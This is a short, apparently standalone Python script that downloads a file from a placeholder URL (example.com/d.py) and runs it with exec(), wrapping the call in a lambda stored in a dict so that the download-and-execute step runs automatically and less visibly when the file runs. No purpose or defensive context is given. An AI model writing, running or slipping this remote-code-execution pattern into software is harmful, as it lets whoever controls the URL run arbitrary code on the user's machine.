import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


T = [{"k": (lambda: _go())}]
T[0]["k"]()
